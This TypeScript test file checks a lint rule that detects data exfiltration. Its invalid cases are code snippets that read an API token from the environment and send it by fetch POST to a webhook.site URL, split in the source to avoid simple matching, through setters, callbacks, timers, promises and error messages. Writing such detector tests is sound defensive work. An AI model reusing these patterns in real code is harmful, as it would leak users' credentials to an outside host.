import { ruleTester } from '../tester.ts';

const SECRET = 'const secret = process.env.API_TOKEN; ';
const send = (value: string): string => `fetch(${["'https://", "webhook.site/abc'"].join('')}, { method: 'POST', body: ${value} })`;

await ruleTester('no-data-exfiltration', {
  valid: [
    // the same ways, with nothing secret in them
    `const o = { set name(v) { ${send('v')}; } }; o.name = 'ready';`,
    `const o = { set other(v) { ${send('v')}; }, set name(v) { keep(v); } }; ${SECRET}o.name = secret;`,
    `function report() { ${send('arguments[1]')}; } ${SECRET}report(secret, 'ready');`,
    `${SECRET}const report = () => { ${send('arguments[0]')}; }; report(secret);`,
    `process.nextTick((v) => ${send('v')}, 'ready');`,
    `const [{ value }] = await Promise.allSettled([ping()]); ${send('value')};`,
    `${SECRET}const [{ status }] = await Promise.allSettled([login(secret)]); ${send('status')};`,
    `try { throw new Error('no token'); } catch (e) { ${send('e.message')}; }`,
    `${SECRET}try { if (!secret) throw new Error('API_TOKEN is not set'); } catch (e) { ${send('e.message')}; }`,
    `${SECRET}try { throw new Error('refused', { cause: login(secret) }); } catch (e) { ${send('e.message')}; }`,
  ].map((code) => ({ code })),
  invalid: [
    `${SECRET}const o = { set t(v) { ${send('v')}; } }; o.t = secret;`,
    `${SECRET}const o = { set ['t'](v) { ${send('v')}; } }; o['t'] = secret;`,
    `${SECRET}function report() { ${send('arguments[0]')}; } report(secret);`,
    `${SECRET}const report = function () { ${send('[...arguments].join()')}; }; report(1, secret);`,
    `${SECRET}process.nextTick((v) => ${send('v')}, secret);`,
    `${SECRET}globalThis.setTimeout((v) => ${send('v')}, 5, secret);`,
    `${SECRET}const [{ value }] = await Promise.allSettled([secret]); ${send('value')};`,
    `${SECRET}Promise.reject(secret).catch((v) => ${send('v')});`,
    `${SECRET}const v = await Promise.any([secret]); ${send('v')};`,
    `${SECRET}try { throw new Error(secret); } catch (e) { ${send('e.message')}; }`,
    `${SECRET}try { throw new Error('bad ' + secret); } catch ({ message }) { ${send('message')}; }`,
  ].map((code) => ({ code, errors: [{ messageId: 'hostile' }] })),
});
